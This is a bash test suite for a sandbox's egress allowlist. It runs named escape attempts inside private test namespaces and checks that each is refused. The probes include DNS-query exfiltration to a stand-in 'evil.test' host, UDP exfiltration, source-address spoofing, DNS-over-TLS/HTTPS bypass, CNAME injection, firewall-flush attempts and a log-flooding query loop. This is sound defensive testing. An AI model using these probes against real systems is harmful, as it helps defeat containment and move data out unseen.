#!/bin/bash
# SPDX-License-Identifier: MIT
# Escape suite: attacks from a sandbox on a network with an egress allowlist
# (issue 18), one named attack per subtest, each asserting the outcome only
# the restriction gives, with a positive control: the same probe from a
# sandbox on a plain network (no allowlist), or the allowed path.
#
# Root only: sbx runs inside network namespaces made here (net-lib.sh). R
# serves DNS on 10.99.0.53 (UDP, TCP; DoT-style 853 and DoH-style 443 as
# plain TCP listeners), TCP 8080 on 10.99.0.2 (allowed.test) and 10.99.0.4
# (not allowed), and counts UDP datagrams to 10.99.0.4:5353 (exfiltration).
. "$(dirname "$0")/../integration/net-lib.sh"
. "$(dirname "$0")/lib.sh"

if ! is_root; then
        echo "1..0 # SKIP needs root (its own network namespaces; the rootless attacks run from it as uid 65534)"
        exit 77
fi
net_require
command -v python3 >/dev/null || { echo "1..0 # SKIP python3 is missing (the test DNS server)"; exit 77; }
on_exit 'net_namespaces_down; rm -rf "$TMP"'
net_namespaces_up
if ! ip netns exec $H nft list tables >/dev/null 2>&1; then
        echo "1..0 # SKIP nftables does not work here"
        exit 77
fi
DNSTOOL=$(cd "$(dirname "$0")/../integration" && pwd)/dns-tool.py
DNSCODE=$(cat "$DNSTOOL")
export SBX_NETWORK_DIR=$TMP/networks
ip -n $R addr add 10.99.0.53/32 dev lo
for a in 2 4 5; do
        ip -n $R addr add 10.99.0.$a/32 dev lo
        setsid -f ip netns exec $R socat TCP-LISTEN:8080,bind=10.99.0.$a,fork,reuseaddr \
                SYSTEM:"echo srv=10.99.0.$a" </dev/null >/dev/null 2>&1
done
for p in 853 443; do
        setsid -f ip netns exec $R socat TCP-LISTEN:$p,bind=10.99.0.53,fork,reuseaddr SYSTEM:'echo tls' \
                </dev/null >/dev/null 2>&1
done
: >"$TMP/udp.log"
setsid -f ip netns exec $R socat -u UDP-RECV:5353,bind=10.99.0.4 OPEN:"$TMP/udp.log",creat,append \
        </dev/null >/dev/null 2>&1
cat >"$TMP/zone" <<'ZONE'
allowed.test A 10.99.0.2 300
cdn.test CNAME edge.host.test 300
edge.host.test A 10.99.0.5 300
tun.test CNAME evil.test 300
evil.test A 10.99.0.4 300
injected.test EXTRA 10.99.0.5 300
ZONE
chmod 644 "$TMP/zone"
setsid -f ip netns exec $R python3 "$DNSTOOL" serve 10.99.0.53 "$TMP/zone" </dev/null >/dev/null 2>&1
for i in $(seq 50); do ip netns exec $R ss -Hltn | grep -q 10.99.0.53:443 && ip netns exec $R ss -lun |
        grep -q 10.99.0.53:53 && break; sleep 0.1; done
ip netns exec $H "$SBX" network create allow --egress-allow allowed.test,cdn.test,tun.test --dns 10.99.0.53 >/dev/null
ip netns exec $H "$SBX" network create plain --dns 10.99.0.53 >/dev/null
# esbx / psbx [OPTIONS] -- CMD: a sandbox on the allowlist / the plain network
esbx() { timeout -k 5 60 ip netns exec $H "$SBX" run --ro-bind "$SBX_PROBE:/sbx-probe" --network allow "$@"; }
psbx() { timeout -k 5 60 ip netns exec $H "$SBX" run --ro-bind "$SBX_PROBE:/sbx-probe" --network plain "$@"; }
resolve() { echo "getent hosts $1 >/dev/null;"; }

# ---- addresses without a lookup ----
control "a sandbox on the plain network connects to 10.99.0.4:8080" "$(psbx -- /sbx-probe connect 10.99.0.4 8080)" OK
is "egress-ip-literal: 10.99.0.4:8080 (never answered) is refused at once (EHOSTUNREACH, admin-prohibited)" \
        "$(esbx -- /sbx-probe connect 10.99.0.4 8080)" EHOSTUNREACH
control "the allowed name's address after its lookup connects" \
        "$(esbx -- bash -c "$(resolve allowed.test) /sbx-probe connect 10.99.0.2 8080")" OK
is "egress-ip-of-allowed-without-lookup: the allowed host's address before any lookup is refused" \
        "$(esbx -- /sbx-probe connect 10.99.0.2 8080)" EHOSTUNREACH

# ---- other resolvers ----
control "the plain network reaches the outside DNS server (UDP)" \
        "$(psbx -- python3 -c "$DNSCODE" query 10.99.0.53 allowed.test | head -1)" "rcode=0"
like "egress-dns-udp-outside: another DNS server gets no query through" \
        "$(esbx -- python3 -c "$DNSCODE" query 10.99.0.53 allowed.test 2>&1)" "^error="
control "the plain network reaches the outside DNS server over TCP" \
        "$(psbx -- /sbx-probe connect 10.99.0.53 53)" OK
is "egress-dns-tcp-outside: DNS over TCP to an outside resolver is refused" \
        "$(esbx -- /sbx-probe connect 10.99.0.53 53)" EHOSTUNREACH
is "egress-dot: DNS over TLS (853) to a resolver not allowed is refused" \
        "$(esbx -- /sbx-probe connect 10.99.0.53 853)" EHOSTUNREACH
is "egress-doh: DNS over HTTPS (443) to an endpoint not allowed is refused" \
        "$(esbx -- /sbx-probe connect 10.99.0.53 443)" EHOSTUNREACH
control "the plain network reaches the DoH-style endpoint" "$(psbx -- /sbx-probe connect 10.99.0.53 443)" OK
control "sbx's own resolver answers over TCP inside" \
        "$(esbx -- python3 -c "$DNSCODE" query --tcp 127.0.0.53 allowed.test | tail -1)" "allowed.test A 10.99.0.2"

# ---- names ----
: >"$TMP/zone.log"
out=$(esbx -- python3 -c "$DNSCODE" query 127.0.0.53 secret-data.evil.test)
is "egress-query-exfil: a name not allowed is NXDOMAIN" "$out" "rcode=3"
is "egress-query-exfil: ... and never reaches the upstream server" "$(cat "$TMP/zone.log")" ""
esbx -- python3 -c "$DNSCODE" query 127.0.0.53 allowed.test >/dev/null
control "an allowed name does reach the upstream server" "$(cat "$TMP/zone.log")" "allowed.test A"
out=$(esbx -- python3 -c "$DNSCODE" query 127.0.0.53 tun.test)
unlike "egress-cname-tunnel: records outside the chain (injected) are dropped from the answer" "$out" "injected"
is "egress-cname-tunnel: an address only injected is not reachable after the lookup" \
        "$(esbx -- bash -c "$(resolve tun.test) /sbx-probe connect 10.99.0.5 8080")" EHOSTUNREACH
control "a CNAME chain's target address of an allowed name is reachable" \
        "$(esbx -- bash -c "$(resolve cdn.test) /sbx-probe connect 10.99.0.5 8080")" OK
is "egress-cname-target-direct: the chain's target name asked directly is NXDOMAIN" \
        "$(esbx -- python3 -c "$DNSCODE" query 127.0.0.53 evil.test)" "rcode=3"

# ---- IPv6 ----
is "egress-ipv6: an IPv6 destination has no route" "$(esbx -- /sbx-probe connect6 fd00::4 8080)" ENETUNREACH
is "egress-ipv4-mapped: a v4-mapped IPv6 address is the IPv4 one, refused" \
        "$(esbx -- /sbx-probe connect6 ::ffff:10.99.0.4 8080)" EHOSTUNREACH
control "the plain network connects to the v4-mapped address" \
        "$(psbx -- /sbx-probe connect6 ::ffff:10.99.0.4 8080)" OK

# ---- UDP out, and forging the source address ----
# (IP_FREEBIND binds any address without privilege; the kernel routes such a
# datagram only with IP_TRANSPARENT, which needs CAP_NET_ADMIN. The bridge
# table drops any other source from the sandbox's port as well.)
OWN='a=$(ip -4 -o addr show dev eth0 | awk "{print \$4}" | cut -d/ -f1)'
psbx -- bash -c "$OWN; /sbx-probe udp-send-from \$a 10.99.0.4 5353 plain-own" >/dev/null
sleep 0.5
control "from the plain network a datagram to 10.99.0.4:5353 arrives" "$(cat "$TMP/udp.log")" "plain-own"
: >"$TMP/udp.log"
out=$(esbx -- bash -c "$OWN; /sbx-probe udp-send-from \$a 10.99.0.4 5353 egress-own")
sleep 0.5
is "egress-udp-exfil: a datagram to an address not allowed never arrives" "$(cat "$TMP/udp.log")" ""
out=$(esbx -- /sbx-probe udp-send-from 10.237.0.250 10.99.0.4 5353 egress-spoofed)
sleep 0.5
is "egress-spoof-source: a datagram with a forged source is not routed" "$out" ENETUNREACH
is "egress-spoof-source: ... and never arrives" "$(cat "$TMP/udp.log")" ""

# ---- the resolver is out of reach ----
out=$(esbx -- bash -c 'kill -9 -1 2>/dev/null; getent hosts allowed.test')
like "egress-kill-resolver: kill -9 -1 inside does not touch the resolver (it still answers)" "$out" "^10.99.0.2 "
is "egress-take-port-53: the sandbox cannot bind a resolver of its own on port 53" \
        "$(esbx -- python3 -c 'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("127.0.0.54", 53)); print("OK")' 2>&1 | tail -1 | grep -o 'Permission denied\|OK')" \
        "Permission denied"
is "egress-raw-socket: raw sockets (forged packets) are EPERM" "$(esbx -- /sbx-probe socket raw)" EPERM

# ---- the host-side log: every name refused is an audit record, as fast as
# the sandbox asks; unbounded they filled the host's disk (or /run/sbx's
# tmpfs). Past 16 MiB of log they are dropped after one egress-log-limit
# record, as exec-seen records are.
alog="$(state_base)/audit.jsonl"
flood='import socket, sys
ns = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
for i in range(int(sys.argv[1])):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in (b"n%d" % i, b"x" * 60, b"x" * 60, b"denied", b"test"):
        q += bytes([len(label)]) + label
    s.sendto(q + b"\x00\x00\x01\x00\x01", (ns, 53))
    try: s.recv(512)
    except OSError: pass
print("sent")'
esbx -- python3 -c "$flood" 5 >/dev/null 2>&1
control "the sandbox's refused names are logged" "$(grep '"egress-deny-name"' "$alog" | grep -c 'denied\.test')" 5
esbx -- python3 -c "$flood" 60000 >/dev/null 2>&1
size=$(stat -c %s "$alog")
like "egress-log-flood: 60,000 refused names leave the log within 16 MiB (${size} bytes)" \
        "$(( size <= (16 << 20) + 4096 ))" '^1$'
is "egress-log-flood: ... with one egress-log-limit record saying so" "$(grep -c '"egress-log-limit"' "$alog")" 1
control "sbx's own records are still written (the run's exit)" \
        "$(esbx -- /bin/true; tail -1 "$alog" | grep -o '"event":"exit"')" '"event":"exit"'

# ---- rootless (pasta, uid 65534): the rules live in the sandbox's own namespace ----
if ! command -v pasta >/dev/null; then
        for i in 1 2 3 4; do skip "rootless: pasta (Debian package passt) is not installed"; done
else
        RL=$TMP/rl; mkdir -p "$RL"; chown 65534 "$RL"; chmod 755 "$TMP"
        rl() { in_h_nobody SBX_NETWORK_DIR="$SBX_NETWORK_DIR" XDG_RUNTIME_DIR="$RL" "$SBX" run \
                --ro-bind "$SBX_PROBE:/sbx-probe" "$@"; }
        out=$(rl --network plain -- /sbx-probe connect 10.99.0.4 8080 2>&1)
        if printf '%s' "$out" | grep -q 'pasta exited\|tun'; then
                for i in 1 2 3 4; do skip "rootless: pasta cannot run here: $(printf '%s' "$out" | head -1)"; done
        else
                control "rootless on the plain network connects to 10.99.0.4:8080" "$out" OK
                is "egress-rootless-ip-literal: the same from the allowlist network is refused (EHOSTUNREACH)" \
                        "$(rl --network allow -- /sbx-probe connect 10.99.0.4 8080 2>&1)" EHOSTUNREACH
                like "egress-rootless-flush-rules: nft flush ruleset in its own namespace is refused" \
                        "$(rl --network allow -- nft flush ruleset 2>&1)" "Operation not permitted"
                is "egress-rootless-flush-rules: ... and the literal is still refused after the attempt" \
                        "$(rl --network allow -- bash -c 'nft flush ruleset 2>/dev/null; /sbx-probe connect 10.99.0.4 8080' 2>&1)" \
                        EHOSTUNREACH
        fi
fi

ip netns exec $H "$SBX" network rm allow plain >/dev/null
is "no sbx link, nft table or ip_forward change is left in H" \
        "$(ip -n $H -br link | grep -c sbx; ip netns exec $H nft list tables | grep -c sbx; ip netns exec $H cat /proc/sys/net/ipv4/ip_forward)" \
        "$(printf '0\n0\n0')"
done_testing
